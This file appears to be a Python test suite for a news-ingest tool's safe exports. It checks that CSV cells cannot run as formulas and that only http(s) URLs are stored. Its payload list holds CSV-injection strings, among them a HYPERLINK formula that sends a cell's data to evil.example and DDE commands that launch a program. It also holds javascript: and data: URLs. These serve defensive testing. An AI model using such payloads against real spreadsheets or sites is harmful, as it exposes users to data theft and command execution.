"""Safe exports: no CSV cell runs as a formula; only http(s) URLs are stored."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest

from core.cli import main
from core.export import format_table, neutralise_formulas
from core.ingest.sources.safety import check_url, escape_name
from core.store import Store
from pages.ui.format import table_bytes

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_store(tmp_path):
    records = [
        {"title": title, "source": title, "text": f"Story {i} from Oslo about trade.", "url": url}
        for i, (title, url) in enumerate(
            zip(
                PAYLOADS,
                [
                    "javascript:alert(1)",
                    '=HYPERLINK("http://evil.example")',
                    "http://[::1",
                    "https://news.example/a?b=1",
                    "data:text/html,<b>x</b>",
                    None,
                ],
                strict=True,
            )
        )
    ]
    path = tmp_path / "hostile.jsonl"
    path.write_text("\n".join(json.dumps(r) for r in records) + "\n", encoding="utf-8")
    store = tmp_path / "store"
    assert main(["ingest", str(path), "--store", str(store)]) == 0
    return store


def test_csv_export_neutralises_every_formula_cell(hostile_store, capsys):
    stored = Store(hostile_store).table("articles").set_index("article_id")
    # Ingest strips the leading tab / CR of a title; what is left still starts a formula.
    assert all(t.startswith(("=", "+", "-", "@")) for t in stored["title"])
    capsys.readouterr()
    assert main(["export", "articles", "--store", str(hostile_store), "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        for column in ("title", "source"):
            assert row[column] == "'" + stored.loc[row["article_id"], column]


def test_jsonl_and_parquet_exports_keep_values_exactly(hostile_store, tmp_path, capsys):
    stored = sorted(Store(hostile_store).table("articles")["title"])
    capsys.readouterr()
    assert main(["export", "articles", "--store", str(hostile_store), "--format", "jsonl"]) == 0
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert sorted(r["title"] for r in rows) == stored
    out = tmp_path / "a.parquet"
    assert main(["export", "articles", "--store", str(hostile_store), "-o", str(out)]) == 0
    assert sorted(pd.read_parquet(out)["title"]) == stored


def test_only_http_urls_are_stored_and_the_others_warned(hostile_store, capsys):
    articles = Store(hostile_store).table("articles")
    assert sorted(articles["url"].dropna()) == ["https://news.example/a?b=1"]
    assert articles["url"].isna().sum() == 5


def test_ingest_warns_of_each_dropped_url(tmp_path, capsys):
    path = tmp_path / "one.jsonl"
    path.write_text(json.dumps({"text": "Rain in Oslo.", "url": "javascript:alert(1)"}) + "\n")
    assert main(["ingest", str(path), "--store", str(tmp_path / "store")]) == 0
    err = capsys.readouterr().err
    assert "url javascript:alert(1) is not an http(s) link: dropped" in err


def test_dashboard_downloads_neutralise_formulas_in_csv_only():
    df = pd.DataFrame(
        {"title": pd.array(PAYLOADS + [None, "fine"], dtype="string"), "n": range(-1, 7)}
    )
    # Python's csv writer leaves a cell holding a bare CR unquoted (ingest turns every CR into
    # LF, so stored text has none): read the CSV back without that one row.
    text = table_bytes(df, "csv").decode()
    assert "'\r=1+1" in text
    rows = list(csv.DictReader(io.StringIO(text.replace("'\r=1+1", "CR"), newline="")))
    assert [r["title"] for r in rows] == ["'" + p for p in PAYLOADS[:5]] + ["CR", "", "fine"]
    assert [r["n"] for r in rows][0] == "-1"  # numbers stay numbers
    assert [r["title"] for r in json.loads(table_bytes(df, "json"))][:6] == PAYLOADS
    assert list(pd.read_parquet(io.BytesIO(table_bytes(df, "parquet")))["title"][:6]) == PAYLOADS


def test_neutralise_formulas_returns_a_new_frame():
    df = pd.DataFrame({"a": ["=1", "b"], "o": [["=x"], "@y"]})
    out = neutralise_formulas(df)
    assert list(df["a"]) == ["=1", "b"]  # input untouched
    assert list(out["a"]) == ["'=1", "b"] and list(out["o"]) == [["=x"], "'@y"]
    assert format_table(df, "csv").decode().splitlines()[1] == "'=1,['=x']"


@pytest.mark.parametrize(
    ("url", "kept"),
    [
        ("https://example.com/a", True),
        ("  http://example.com  ", True),
        ("HTTP://EXAMPLE.COM/", True),
        ("javascript:alert(1)", False),
        ("JavaScript:alert(1)", False),
        ('=HYPERLINK("http://x")', False),
        ("http://[::1", False),
        ("http://[x]", False),
        ("http://example.com:port/", False),
        ("http:///nohost", False),
        ("ftp://example.com/f", False),
        ("//example.com/a", False),
        ("http://exa mple.com", False),
        ("http://example.com/\n", True),  # trailing newline stripped
        ("http://e.com/" + "a" * 5000, False),
        (123, False),
    ],
)
def test_check_url(url, kept):
    got, problem = check_url(url)
    assert (got is not None) is kept
    assert (problem is None) is kept


def test_check_url_without_a_value_says_nothing():
    assert check_url(None) == (None, None) and check_url("  ") == (None, None)


def test_escape_name_keeps_one_name_on_one_line():
    assert escape_name("a\nb\x1b[31m\u202e.txt") == "a\\nb\\x1b[31m\\u202e.txt"
    assert escape_name("Zürich.txt") == "Zürich.txt"
